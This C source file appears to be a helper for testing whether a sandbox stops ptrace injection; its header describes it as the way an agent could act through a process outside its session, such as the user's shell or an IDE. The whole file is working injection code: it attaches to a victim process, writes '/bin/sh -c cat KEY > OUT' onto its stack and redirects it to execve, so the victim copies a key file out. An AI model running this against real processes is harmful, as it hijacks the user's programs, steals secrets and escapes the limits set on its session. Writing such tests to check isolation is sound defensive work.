// SPDX-License-Identifier: GPL-2.0-only
/*
 * Code injection into another process with ptrace, the way an agent could
 * act through a process outside its session (the user's shell, an IDE):
 *
 *	inject PID KEY OUT
 *
 * Drops root to uid and gid 65534 (the victim's), attaches to PID with
 * PTRACE_ATTACH and waits for it to stop, writes "/bin/sh", "-c",
 * "cat KEY > OUT" and an argv array for them below its stack pointer with
 * PTRACE_POKEDATA, points it at the syscall instruction it is stopped after
 * with rax = execve (PTRACE_SETREGS) and detaches: the victim execs
 * sh -c 'cat KEY > OUT'. Then it waits up to 10 s for OUT to be non-empty
 * and prints one line:
 *
 *	RESULT {"pid":N,"ops":[{"op":"attach","ret":0},...],"pokes":[{"addr":A,"data":D},...]}
 *
 * where ret is the raw result (-errno on failure) of each ptrace request
 * that changes the victim, in order, and pokes the address and word of
 * each PTRACE_POKEDATA.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_OPS 64

static struct {
	const char *op;
	long ret;
} ops[MAX_OPS];
static int nops;
static uint64_t poke_addr[MAX_OPS], poke_data[MAX_OPS];
static int npokes;

static long req(const char *op, long request, pid_t pid, uint64_t addr, uint64_t data)
{
	long r = syscall(SYS_ptrace, request, pid, addr, data);
	if (r < 0)
		r = -errno;
	if (nops < MAX_OPS) {
		ops[nops].op = op;
		ops[nops].ret = r;
		nops++;
	}
	return r;
}

/* Write len bytes at addr in the tracee, a word at a time (addr aligned). */
static int poke(pid_t pid, uint64_t addr, const void *buf, size_t len)
{
	for (size_t off = 0; off < len; off += 8) {
		uint64_t word = 0;
		memcpy(&word, (const char *)buf + off, len - off < 8 ? len - off : 8);
		if (req("pokedata", PTRACE_POKEDATA, pid, addr + off, word) < 0)
			return -1;
		poke_addr[npokes] = addr + off;
		poke_data[npokes] = word;
		npokes++;
	}
	return 0;
}

static void result(void)
{
	printf("RESULT {\"pid\":%d,\"ops\":[", getpid());
	for (int i = 0; i < nops; i++)
		printf("%s{\"op\":\"%s\",\"ret\":%ld}", i ? "," : "", ops[i].op, ops[i].ret);
	printf("],\"pokes\":[");
	for (int i = 0; i < npokes; i++)
		printf("%s{\"addr\":%llu,\"data\":%llu}", i ? "," : "", (unsigned long long)poke_addr[i],
		       (unsigned long long)poke_data[i]);
	printf("]}\n");
	fflush(stdout);
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: inject PID KEY OUT\n");
		return 2;
	}
	pid_t pid = atoi(argv[1]);
	if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)) {
		perror("inject: dropping root");
		return 3;
	}

	if (req("attach", PTRACE_ATTACH, pid, 0, 0) < 0) {
		result();
		return 4;
	}
	int status;
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) {
		perror("inject: waitpid");
		return 5;
	}
	struct user_regs_struct regs;
	if (ptrace(PTRACE_GETREGS, pid, 0, &regs)) {
		perror("inject: PTRACE_GETREGS");
		return 6;
	}
	/* Stopped in a syscall (pause): rip is just past its syscall instruction. */
	errno = 0;
	long insn = ptrace(PTRACE_PEEKTEXT, pid, regs.rip - 2, 0);
	if (errno || (insn & 0xffff) != 0x050f) {
		fprintf(stderr, "inject: no syscall instruction before rip %llx\n", regs.rip);
		return 7;
	}

	char cmd[8192];
	snprintf(cmd, sizeof(cmd), "cat %s > %s", argv[2], argv[3]);
	/* Below the red zone, 16-byte aligned: strings, then argv. */
	uint64_t base = ((regs.rsp - 128 - 8192) & ~(uint64_t)15);
	uint64_t sh = base, dash_c = sh + 8, script = dash_c + 8;
	uint64_t argvp = (script + strlen(cmd) + 1 + 15) & ~(uint64_t)15;
	uint64_t args[4] = {sh, dash_c, script, 0};
	if (poke(pid, sh, "/bin/sh", 8) || poke(pid, dash_c, "-c", 3) || poke(pid, script, cmd, strlen(cmd) + 1) ||
	    poke(pid, argvp, args, sizeof(args))) {
		result();
		return 8;
	}

	regs.rip -= 2;
	regs.orig_rax = -1; /* no syscall restart on the way out of the stop */
	regs.rax = SYS_execve;
	regs.rdi = sh;
	regs.rsi = argvp;
	regs.rdx = 0;
	if (req("setregs", PTRACE_SETREGS, pid, 0, (uint64_t)&regs) < 0) {
		result();
		return 9;
	}
	if (ptrace(PTRACE_DETACH, pid, 0, 0)) {
		perror("inject: PTRACE_DETACH");
		return 10;
	}

	for (int i = 0; i < 1000; i++) {
		struct stat st;
		if (stat(argv[3], &st) == 0 && st.st_size > 0)
			break;
		struct timespec ts = {0, 10 * 1000 * 1000};
		nanosleep(&ts, NULL);
	}
	result();
	return 0;
}
